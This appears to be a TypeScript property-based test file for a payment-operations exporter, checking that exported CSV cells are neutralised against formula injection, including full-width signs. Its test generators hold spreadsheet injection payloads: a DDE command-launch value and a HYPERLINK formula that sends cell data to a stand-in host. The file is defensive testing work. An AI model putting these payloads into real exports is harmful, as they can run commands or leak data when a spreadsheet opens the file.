// CSV injection (OWASP "CSV Injection", ASVS 5.0 1.2.10): a spreadsheet runs a cell that starts
// with = + - @, and it reads a cell after dropping what it trims first (spaces, tabs, line
// breaks, zero-width characters); Japanese and Chinese Excel read the full-width ＝ ＋ － ＠ as
// the ASCII signs. A cell " =1+1", "\u3000＝1+1" or "\u200b@SUM(A1)" was written as it came.
// Property over the real exporter (real SQLite file): no exported cell, once trimmed as a
// spreadsheet trims it, starts with a formula sign unless the cell starts with the apostrophe.
import type Database from 'better-sqlite3';
import fc from 'fast-check';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeEvents } from '../../../test/support/explorerTestKit';
import { csvRows } from '../../../test/support/csvRows';
import { tempDir } from '../../../test/support/tempDir';
import { openDatabase } from '../store/database';
import { storeOn, type Store } from '../store/store';
import { csvCell } from './csv';
import { runExport } from './reportExport';

const dir = tempDir('payops-csv-injection-');
const T0 = Date.UTC(2026, 11, 1, 0, 0, 0);
const HOUR = 3_600_000;
let db: Database.Database;
let store: Store;

/** What a spreadsheet may drop before it looks at a cell's first character. */
const TRIMMED = /^[\s\p{Cc}\p{Cf}]*/u;
/** The formula signs, ASCII, full-width and small forms, and the minus sign. */
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u2212]/u;
const isSafe = (cell: string) => cell.startsWith("'") || !FORMULA.test(cell.replace(TRIMMED, ''));

const lead = fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2060', '\u200e', '\0', '\x0b');
const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−');
const rest = fc.constantFrom('1+1', 'SUM(A1:A9)', 'HYPERLINK("http://x.example/?"&A2,"x")', "cmd|'/c calc'!A1", '', ' m_1', ',"x"');
const hostile = fc.tuple(lead, lead, sign, rest).map(([a, b, s, r]) => `${a}${b}${s}${r}`);
/** CloudEvents attributes (id, source, subject, type) hold no control characters; data fields may. */
const attribute = hostile.filter((s) => !/\p{Cc}/u.test(s));
/** A source is a URI reference: ASCII signs only, no spaces. */
const source = fc.tuple(fc.constantFrom('=', '+', '-', '@'), fc.constantFrom('1+1', 'cmd|calc!A1', 'SUM(A1)', 'psp/x')).map(([a, b]) => `${a}${b}`);

describe('a CSV cell a spreadsheet would run', () => {
  it('gets the apostrophe, whatever a spreadsheet trims before the sign (unit, property)', () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ unit: 'grapheme' })), (value) => {
        const [[cell]] = csvRows(`${csvCell(value)}\r\n`);
        expect(isSafe(cell), JSON.stringify(cell)).toBe(true);
        // Only the apostrophe is added: the value is all there, after it (C0 controls but tab, CR and LF as \uXXXX).
        const shown = value.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
        expect([shown, `'${shown}`]).toContain(cell);
      }),
      { numRuns: 500 },
    );
  });

  it('named cases: leading white space, full-width signs, tab and carriage return', () => {
    for (const v of [' =1+1', '\t=1+1', '\r=1+1', '\tabc', '\rabc', '＝1+1', '＋1', '－1', '＠SUM(A1)', '\u3000=1', '\u200b=1', '\n-1'])
      expect(csvRows(`${csvCell(v)}\r\n`)[0][0], JSON.stringify(v)).toBe(`'${v}`);
    // What is no formula keeps its form: a space before a plain value, a sign inside it.
    for (const v of [' m_1', 'm_1=2', 'a-b', 'x@example.com']) expect(csvRows(`${csvCell(v)}\r\n`)[0][0]).toBe(v);
  });
});

beforeAll(() => {
  db = openDatabase(path.join(dir, 'inj.db'));
  store = storeOn(db);
});
afterAll(() => db?.close());

describe('the CSV export', () => {
  it('no exported cell starts, once trimmed, with a formula sign unless prefixed (property over the exporter)', async () => {
    let run = 0;
    let exported = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(hostile, hostile, source, attribute, hostile, fc.boolean()), { minLength: 1, maxLength: 6 }), fc.boolean(), async (rows, mask) => {
        const start = T0 + run++ * HOUR;
        storeEvents(
          db,
          rows.map(([merchantId, paymentId, source, subject, code, unknown], i) => ({
            specversion: '1.0', id: `${subject}#${run}.${i}`, source, subject, type: unknown ? `${subject}.type` : 'payment.declined',
            time: new Date(start + i * 1000).toISOString(),
            data: { paymentId, merchantId, amount: 100, currency: 'EUR', method: code, declineCode: code, note: code },
          })),
        );
        const out = path.join(dir, `run-${run}.csv`);
        const r = await runExport(store, { from: start, to: start + HOUR, format: 'csv', outFile: out, mask, maskFields: [] });
        // An attribute the CloudEvents rules refuse (a source that is no URI reference) is quarantined, not exported.
        const stored = db.prepare('SELECT COUNT(*) AS n FROM events WHERE time_ms >= ? AND time_ms < ?').get(start, start + HOUR) as { n: number };
        expect(r.rows).toBe(stored.n);
        exported += r.rows;
        const cells = csvRows(fs.readFileSync(out, 'utf8')).flat();
        for (const cell of cells) expect(isSafe(cell), JSON.stringify(cell)).toBe(true);
      }),
      { numRuns: 25 },
    );
    expect(exported).toBeGreaterThan(25);
  });
});
